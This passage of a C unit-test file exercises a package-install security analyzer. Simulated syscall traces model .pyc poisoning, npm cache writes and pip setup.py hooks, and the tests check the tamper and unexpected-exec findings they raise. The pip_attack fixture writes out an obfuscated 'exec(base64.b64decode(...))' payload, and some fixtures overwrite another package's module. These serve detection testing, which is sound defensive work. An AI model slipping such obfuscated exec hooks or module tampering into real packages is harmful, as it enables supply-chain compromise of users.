	run(an, 102, "/usr/bin/python3.11", argv, 0, true);
	ev_open(&B, an, 102, NM "/other/gyp/__init__.py", O_RDONLY);
	ev_open(&B, an, 102, NM "/other/gyp/__pycache__/__init__.cpython-311.pyc.140497584599760",
		O_WRONLY | O_CREAT | O_EXCL);
	ev_path2(&B, an, PT_EV_RENAME, 102, NM "/other/gyp/__pycache__/__init__.cpython-311.pyc.140497584599760",
		 NM "/other/gyp/__pycache__/__init__.cpython-311.pyc");
	ev_exit(&B, an, 102);
}

/* a .pyc planted by something that is not compiling that module */
static void pyc_poisoned(struct analyzer *an)
{
	const char *argv[] = { "python3", "x.py", NULL };

	pkg_script(an);
	ev_open(&B, an, 101, NM "/other/gyp/__pycache__/__init__.cpython-311.pyc", O_WRONLY | O_CREAT);
	run(an, 102, "/usr/bin/python3.11", argv, 0, true);
	ev_open(&B, an, 102, PKG "/x.py", O_RDONLY);
	ev_open(&B, an, 102, NM "/other/gyp/__pycache__/__init__.cpython-311.pyc.1", O_WRONLY | O_CREAT);
	ev_exit(&B, an, 102);
}

static void test_pycache(void)
{
	struct report *r = analyze(pyc_by_python), *attack = analyze(pyc_poisoned);
	const struct finding *f = find(attack, "tamper", "pkg");

	CHECK_INT(sev_max(r, "tamper"), -1);
	CHECK(f && f->sev == SEV_HIGH && f->count == 2);
	report_free(r);
	report_free(attack);
}

/* npm writing its cache where .npmrc's cache= says */
static void npm_cache_write(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 100, "/var/cache/npmc/_cacache/tmp/abc", O_WRONLY | O_CREAT);
	ev_open(&B, an, 100, "/var/cache/npmc/_cacache/index-v5/ab/cd/ef", O_WRONLY | O_CREAT);
}

static void npm_odd_write(struct analyzer *an)
{
	npm_cache_write(an);
	ev_open(&B, an, 100, "/var/lib/elsewhere/x", O_WRONLY | O_CREAT);
}

static void test_pm_cache(void)
{
	struct report *r, *odd;
	const struct finding *f;

	extra_fact = "/root/.npmrc";
	extra_text = "cache=/var/cache/npmc\n";
	r = analyze(npm_cache_write);
	odd = analyze(npm_odd_write);
	extra_fact = extra_text = NULL;
	CHECK_INT(sev_max(r, "write-outside-project"), -1);
	f = find(odd, "write-outside-project", NULL);
	CHECK(f && f->sev == SEV_LOW && f->count == 1 && f->nev == 1 && strstr(f->summary, "/var/lib/elsewhere/x"));
	report_free(r);
	report_free(odd);
}

static void test_dns_names_query(void)
{
	struct report *r = analyze(dns_query_fire);
	const struct finding *f = find(r, "dns-query", "pkg");

	CHECK(f && strstr(f->summary, "example.com") && !strncmp(f->summary, "pkg ", 4));
	report_free(r);
}

/* ---- pip: `.venv/bin/pip install rw_setuppy-1.2.3.tar.gz` in the project ---- */
#define VENV PROJ "/.venv"
#define SITE VENV "/lib/python3.11/site-packages"
#define BUILD "/tmp/pip-req-build-abc123"
#define SDIST "/dist/rw_setuppy-1.2.3.tar.gz"
#define SHIM "\nexec(compile('''\n# This is <pip-setuptools-caller> -- a caller that pip uses to run setup.py\n" \
	     "import setuptools\n''' % ('" BUILD "/setup.py',), \"<pip-setuptools-caller>\", \"exec\"))\n"

/* a hook pip starts: its setuptools caller running setup.py CMD */
static void pip_hook(struct analyzer *an, uint32_t pid, const char *cmd)
{
	const char *argv[] = { VENV "/bin/python3.11", "-u", "-c", SHIM, cmd, "--record",
			       "/tmp/pip-record-x/install-record.txt", "--single-version-externally-managed",
			       "--compile", NULL };

	ev_fork(&B, an, 300, pid);
	ev_exec(&B, an, pid, "/usr/bin/python3.11", argv, BUILD, base_env);
}

/* the legacy path: setuptools' own `setup.py install` writes the venv */
static void pip_legacy(struct analyzer *an)
{
	pip_hook(an, 301, "install");
	ev_open(&B, an, 301, SITE "/rw_setuppy/__init__.py", O_WRONLY | O_CREAT);
	ev_open(&B, an, 301, SITE "/rw_setuppy/__init__.py", O_RDONLY);
	ev_open(&B, an, 301, SITE "/rw_setuppy/__pycache__/__init__.cpython-311.pyc.77", O_WRONLY | O_CREAT);
	ev_open(&B, an, 301, SITE "/rw_setuppy-1.2.3-py3.11.egg-info/PKG-INFO", O_WRONLY | O_CREAT);
	ev_exit(&B, an, 301);
	ev_open(&B, an, 300, SITE "/rw_setuppy-1.2.3-py3.11.egg-info/installed-files.txt", O_WRONLY | O_CREAT);
}

/* the same install step also rewriting another distribution's module */
static void pip_legacy_tamper(struct analyzer *an)
{
	pip_hook(an, 301, "install");
	ev_open(&B, an, 301, SITE "/rw_setuppy/__init__.py", O_WRONLY | O_CREAT);
	ev_open(&B, an, 301, SITE "/requests/__init__.py", O_WRONLY | O_TRUNC);
	ev_exit(&B, an, 301);
	ev_open(&B, an, 300, SITE "/rw_setuppy-1.2.3-py3.11.egg-info/installed-files.txt", O_WRONLY | O_CREAT);
}

/* a build that failed before writing any metadata */
static void pip_failed(struct analyzer *an)
{
	pip_hook(an, 301, "bdist_wheel");
	ev_open(&B, an, 301, BUILD "/build/lib/rw_setuppy/__init__.py", O_WRONLY | O_CREAT);
	ev_exit(&B, an, 301);
}

/* a build step (not pip's install) writing into the venv, and an inline
 * payload its setup.py runs */
static void pip_attack(struct analyzer *an)
{
	const char *payload[] = { "python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))", NULL };

	pip_hook(an, 301, "bdist_wheel");
	ev_open(&B, an, 301, SITE "/requests/__init__.py", O_WRONLY | O_TRUNC);
	ev_fork(&B, an, 301, 302);
	ev_exec(&B, an, 302, "/usr/bin/python3.11", payload, BUILD, base_env);
	ev_exit(&B, an, 302);
	ev_exit(&B, an, 301);
}

/* `.venv/bin/pip install SDIST` (pid 300): python reads pyvenv.cfg, pip
 * opens the sdist and unpacks it into its build folder */
static void pip_prologue(struct analyzer *an, struct facts *f)
{
	const char *argv[] = { VENV "/bin/python3.11", VENV "/bin/pip", "install", SDIST, NULL };

	put(f, SITE "/rw_setuppy-1.2.3-py3.11.egg-info/PKG-INFO",
	    "Metadata-Version: 2.1\nName: rw-setuppy\nVersion: 1.2.3\nSummary: x\n\nName: not-this\n");
	put(f, SITE "/rw_setuppy-1.2.3-py3.11.egg-info/installed-files.txt",
	    "../rw_setuppy/__init__.py\n../rw_setuppy/__pycache__/__init__.cpython-311.pyc\nPKG-INFO\n");
	ev_exec(&B, an, 300, "/usr/bin/python3.11", argv, PROJ, base_env);
	ev_open(&B, an, 300, VENV "/pyvenv.cfg", O_RDONLY);
	ev_open(&B, an, 300, SDIST, O_RDONLY);
	ev_open(&B, an, 300, BUILD "/setup.py", O_WRONLY | O_CREAT);
}

static struct report *analyze_pip(void (*body)(struct analyzer *))
{
	static char *argv[] = { VENV "/bin/pip", "install", SDIST, NULL };
	static const struct install pip = { argv, 3, 300, 300, pip_prologue };

	return analyze_install(&pip, body);
}

static const struct owner *owner_named(const struct report *r, const char *name)
{
	for (size_t i = 0; r && i < r->nowners; i++)
		if (r->owners[i]->name && !strcmp(r->owners[i]->name, name))
			return r->owners[i];
	return NULL;
}

/* named from its metadata, its summaries too; no finding above info; no
 * npm words in the text report */
static void test_pip_legacy_install(void)
{
	struct report *r = analyze_pip(pip_legacy);
	const struct owner *o = owner_named(r, "rw-setuppy");
	const struct finding *f = find(r, "install-script", "rw-setuppy");
	char *text = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&text, &len);
	int before = unit_failed_checks;

	CHECK(o && o->version && !strcmp(o->version, "1.2.3"));
	CHECK(f && !strcmp(f->summary, "rw-setuppy ran its build script"));
	CHECK_INT(report_max_severity(r), SEV_INFO);
	if (out) {
		if (r)
			report_write(r, out, FMT_TEXT, false);
		fclose(out);
		CHECK(text && strstr(text, "rw-setuppy") && !strstr(text, "allowScripts") && !strstr(text, "by npm"));
	}
	free(text);
	if (unit_failed_checks != before)
		dump(r);
	report_free(r);
}

/* no metadata at all: the sdist's file name, never the build folder */
static void test_pip_failed_build(void)
{
	struct report *r = analyze_pip(pip_failed);
	const struct owner *o = owner_named(r, "rw_setuppy");

	CHECK(o && o->version && !strcmp(o->version, "1.2.3"));
	CHECK(!owner_named(r, "pip-req-build-abc123"));
	report_free(r);
}

static void test_pip_attack(void)
{
	struct report *r = analyze_pip(pip_attack), *legacy = analyze_pip(pip_legacy_tamper);
	const struct finding *f = find(legacy, "tamper", "rw_setuppy"); /* named by its sdist */

	CHECK_INT(sev_max(r, "tamper"), SEV_HIGH);
	CHECK_INT(sev_max(r, "unexpected-exec"), SEV_MEDIUM);
	CHECK(f && f->sev == SEV_HIGH && f->count == 1 && strstr(f->summary, "/requests/__init__.py"));
	report_free(r);
	report_free(legacy);
}

int main(void)
{
	TEST(test_each_rule);
	TEST(test_persistence_through_dotdot);
	TEST(test_credential_other_names);
	TEST(test_path_calls_resolved);
	TEST(test_process_memory);
	TEST(test_unix_peers);
	TEST(test_fifo);
	TEST(test_exfiltration);
	TEST(test_dropper_interpreters);
	TEST(test_ai_agents);
	TEST(test_package_content_hooks);
	TEST(test_home_writes);
	TEST(test_npm_approvals);
	TEST(test_monitor_tamper);
	TEST(test_evasion);
	TEST(test_refused);
	TEST(test_iouring_like_syscalls);
	TEST(test_long_argv);
	TEST(test_env_injection);
	TEST(test_blame_shifting);
	TEST(test_setid);
	TEST(test_own_build_tree);
	TEST(test_pycache);
	TEST(test_pm_cache);
	TEST(test_dns_names_query);
	TEST(test_pip_legacy_install);
	TEST(test_pip_failed_build);
	TEST(test_pip_attack);
	return unit_failed_tests ? 1 : 0;
}
